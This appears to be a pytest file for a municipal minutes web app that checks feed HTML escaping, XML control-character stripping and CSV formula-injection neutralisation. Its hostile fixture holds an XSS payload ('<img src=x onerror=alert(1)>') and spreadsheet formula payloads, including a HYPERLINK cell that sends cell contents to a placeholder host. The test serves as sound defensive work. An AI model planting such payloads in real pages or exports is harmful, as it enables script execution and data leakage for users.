"""Escaping on the way out: feed summaries are HTML escaped exactly once, feeds never hold a
character XML cannot, and no search CSV cell is a formula a spreadsheet would run.

The hostile minutes file goes in through the real ingestion, as an upload would bring it.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import feedparser
import pytest

from minutes.boundary import spreadsheet_cell, xml_safe
from minutes.models import AgendaItem, Decision
from minutes.services.ingestion import ingest_file

pytestmark = pytest.mark.django_db

HOSTILE_DECISION = 'Godkendt. <img src=x onerror=alert(1)> & "citat"'
HOSTILE = f"""REFERAT Socialudvalget d. 05-03-2020

Mødedato
5. marts 2020 kl. 16:00
Mødested
Rådhuset

Punkt 1: =HYPERLINK("http://example.invalid/?x="&A1;"Klik") kvartsfladder
20/99001

Indstilling
Administrationen indstiller, at kvartsfladder godkendes.

Beslutning Socialudvalget den 05-03-2020
{HOSTILE_DECISION}

Punkt 2: +1+1 kvartsfladder
20/99002

Beslutning Socialudvalget den 05-03-2020
Taget til efterretning.

Punkt 3: Tredje kvartsfladder
20/99003

Beslutning Socialudvalget den 05-03-2020
Taget til efterretning.

Punkt 4: @SUM(1+1) kvartsfladder
20/99004

Beslutning Socialudvalget den 05-03-2020
Taget til efterretning.
""".encode()

CASE_FEED = "/hoeje-taastrup/sager/20-99001/feed/"


@pytest.fixture
def hostile_meeting():
    result = ingest_file(
        data=HOSTILE, file_name="fjendtlig.txt", municipality="Høje-Taastrup Kommune"
    )
    assert result.status == "created", result
    return result.meeting


class _Html(HTMLParser):
    """The elements and the text a feed reader would show for a summary."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("sanitize", [True, False])
def test_case_feed_summary_shows_the_hostile_text_as_text(client, hostile_meeting, sanitize):
    response = client.get(CASE_FEED)
    assert response.status_code == 200
    # Without its sanitiser feedparser hands on the summary as the feed gave it, as a reader
    # that trusts type="html" would render it.
    feed = feedparser.parse(response.content, sanitize_html=sanitize)
    assert not feed.bozo, feed.bozo_exception
    (entry,) = feed.entries
    assert entry.summary_detail.type == "text/html"
    shown = _Html(entry.summary)
    assert "img" not in shown.tags
    # Escaped once, not twice: the reader shows the characters, not "&lt;img".
    assert HOSTILE_DECISION in shown.text


# --- Characters XML 1.0 cannot hold ----------------------------------------------------------


def test_feeds_drop_control_characters_from_minutes_text(client, hostile_meeting):
    # A form feed and other C0 controls, as text extracted from a PDF can hold them.
    Decision.objects.filter(item__meeting=hostile_meeting, item__number="1").update(
        text="Godkendt\x0c med\x01 ændring\x1f.\ufffe"
    )
    AgendaItem.objects.filter(meeting=hostile_meeting, number="4").update(
        title="Kvartsfladder\x0b og\x02 budget"
    )
    for url in (CASE_FEED, "/soeg/feed/?q=kvartsfladder"):
        response = client.get(url)
        assert response.status_code == 200, url
        ET.fromstring(response.content)  # well-formed XML 1.0
        feed = feedparser.parse(response.content, sanitize_html=False)
        assert not feed.bozo, (url, feed.bozo_exception)
    case_entry = feedparser.parse(client.get(CASE_FEED).content).entries[0]
    assert _Html(case_entry.summary).text.strip() == "Godkendt med ændring."
    titles = [
        e.title for e in feedparser.parse(client.get("/soeg/feed/?q=kvartsfladder").content).entries
    ]
    assert any(t.startswith("Kvartsfladder og budget") for t in titles), titles


def test_xml_safe_keeps_text_and_drops_what_xml_cannot_hold():
    assert xml_safe("Æble\tø\nå\r") == "Æble\tø\nå\r"
    assert xml_safe("a\x00b\x01c\x08d\x0be\x0cf\x1fg\ufffeh\uffff") == "abcdefgh"


# --- Formula injection in the search CSV -----------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_neutralised(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Budget 2021", "17/10000", "2021-06-02", "'citat'", " =1", ""])
def test_ordinary_cells_are_unchanged(text):
    assert spreadsheet_cell(text) == text


def _csv_rows(client, query: str) -> list[list[str]]:
    response = client.get("/api/search.csv", {"q": query})
    assert response.status_code == 200
    text = response.getvalue().decode("utf-8-sig")  # streamed (minutes.exports)
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_search_csv_neutralises_formula_cells(client, hostile_meeting):
    # The parser reads no title starting with "-", tab or CR; a correction could store one.
    AgendaItem.objects.filter(meeting=hostile_meeting, number="3").update(
        title="-2+3 kvartsfladder"
    )
    header, *rows = _csv_rows(client, "kvartsfladder")
    titles = sorted(row[header.index("Titel")] for row in rows)
    assert titles == [
        "'+1+1 kvartsfladder",
        "'-2+3 kvartsfladder",
        '\'=HYPERLINK("http://example.invalid/?x="&A1;"Klik") kvartsfladder',
        "'@SUM(1+1) kvartsfladder",
    ]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_search_csv_neutralises_cells_starting_with_tab_or_cr(client, hostile_meeting, start):
    AgendaItem.objects.filter(meeting=hostile_meeting, number="3").update(
        title=f"{start}=1+1 kvartsfladder"
    )
    header, *rows = _csv_rows(client, "kvartsfladder")
    titles = [row[header.index("Titel")] for row in rows]
    assert f"'{start}=1+1 kvartsfladder" in titles


def test_search_csv_holds_no_control_characters(client, hostile_meeting):
    # PostgreSQL refuses NUL in text, so the controls a stored text can hold.
    AgendaItem.objects.filter(meeting=hostile_meeting, number="3").update(
        title="Tredje\x0c kvartsfladder\x01"
    )
    header, *rows = _csv_rows(client, "kvartsfladder")
    titles = [row[header.index("Titel")] for row in rows]
    assert "Tredje kvartsfladder" in titles
